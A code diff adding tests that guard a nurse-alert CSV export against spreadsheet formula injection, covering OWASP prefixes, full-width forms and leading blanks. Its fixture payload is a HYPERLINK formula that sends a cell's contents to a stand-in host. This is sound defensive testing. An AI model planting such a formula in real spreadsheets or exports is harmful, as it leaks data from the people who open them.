@@ -49,7 +49,8 @@ const TRIGGERS = /^[=+\-@\u2212]/;
 /** What a spreadsheet would run as a formula: a trigger (or its full-width/compatibility form)
  *  after optional whitespace and quotes, or a leading tab/CR. */
 function runsAsFormula(s: string): boolean {
-  if (/^[\t\r]/.test(s)) return true;
+  // OWASP: tab, CR and LF are triggers of their own (here also after other leading blanks)
+  if (/^[\s"]*[\t\r\n]/.test(s)) return true;
   const first = /^[\s"]*(.)/u.exec(s)?.[1];
   return first !== undefined && TRIGGERS.test(first.normalize('NFKC'));
 }
@@ -112,6 +113,7 @@ function record(h: string, i: number): AckRecord {
     alertId: h,
     action: h as AckRecord['action'],
     nurse: h,
+    nurseId: null,
     stationId: h,
     note: h,
     ackTime: 1_768_460_400_000 + i * 1000,
@@ -206,6 +208,82 @@ describe('acknowledgementsCsv', () => {
   });
 });
 
+// Issue #18: every prefix the OWASP CSV Injection page lists (owasp.org/www-community/attacks/
+// CSV_Injection: = + - @, tab 0x09, CR 0x0D, LF 0x0A), alone and after each leading blank, plus the
+// full-width forms Excel folds to ASCII, in every free-text field a nurse or a device can fill.
+describe('acknowledgementsCsv: the OWASP prefixes in every free-text field', () => {
+  const PREFIXES: [string, string][] = [
+    ['=', '='],
+    ['+', '+'],
+    ['-', '-'],
+    ['@', '@'],
+    ['tab', '\t'],
+    ['CR', '\r'],
+    ['LF', '\n'],
+    ['full-width =', '\uFF1D'],
+    ['full-width +', '\uFF0B'],
+    ['full-width -', '\uFF0D'],
+    ['full-width @', '\uFF20'],
+  ];
+  const LEADS: [string, string][] = [
+    ['at the start', ''],
+    ['after a space', ' '],
+    ['after two spaces', '  '],
+    ['after a tab', '\t'],
+    ['after a CR', '\r'],
+    ['after an LF', '\n'],
+    ['after CR LF', '\r\n'],
+    ['after a quote', '"'],
+    ['after a ;', 'ok;'],
+    ['after a ; and a space', 'ok; '],
+  ];
+  const PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"open")';
+  const FIELDS = ['nurse', 'note', 'patient_id', 'alert_detail'] as const;
+
+  const cases = PREFIXES.flatMap(([p, prefix]) =>
+    LEADS.map(([l, lead]) => ({ name: `${p} ${l}`, text: lead + prefix + PAYLOAD })),
+  );
+
+  function row(text: string): AckRecord {
+    const r = record('plain', 0);
+    return {
+      ...r,
+      nurse: text,
+      note: text,
+      alert: { ...r.alert, patientId: text, alertDetail: text },
+    };
+  }
+
+  it.each(cases)('guards $name', ({ text }) => {
+    const { rows } = parseCsv(acknowledgementsCsv([row(text)], 'UTC'));
+    const [header, body] = rows;
+    for (const field of FIELDS) {
+      const cell = body![header!.indexOf(field)]!;
+      // the piece that carries the prefix (after the `;` when there is one) starts with the guard
+      const piece = text.includes(';') ? cell.slice(cell.indexOf(';') + 1) : cell;
+      expect({ field, guard: piece.slice(0, 1) }).toEqual({ field, guard: "'" });
+      for (const p of pieces(cell))
+        expect({ field, p, runs: runsAsFormula(p) }).toEqual({ field, p, runs: false });
+      // and nothing else is changed
+      expect(unguard(cell)).toBe(text);
+    }
+  });
+
+  it('leaves text that only contains the prefixes later alone', () => {
+    for (const text of [
+      'P001',
+      'HR 130 - rechecked',
+      'a+b',
+      'mail@ward',
+      'x=1',
+      'line 1\nline 2',
+      '\uFF30\uFF10\uFF10\uFF11',
+    ]) {
+      expect(csvCell(text)).toBe(`"${text}"`);
+    }
+  });
+});
+
 describe('csvCell', () => {
   it.each([
     ['plain', '"plain"'],
@@ -224,6 +302,11 @@ describe('csvCell', () => {
     [';@x', `";'@x"`],
     ['a;;=1', `"a;;'=1"`],
     ['a;"=1"', `"a;'""=1"""`],
+    ['\n', `"'\n"`],
+    ['\nplain', `"'\nplain"`],
+    [' \tplain', `"' \tplain"`],
+    ['a;\r\n', `"a;'\r\n"`],
+    ['\u2A751', `"'\u2A751"`],
     ['x-1', '"x-1"'],
     // typed numbers the app produces stay numbers: a negative one is not a formula
     [-3, '"-3"'],
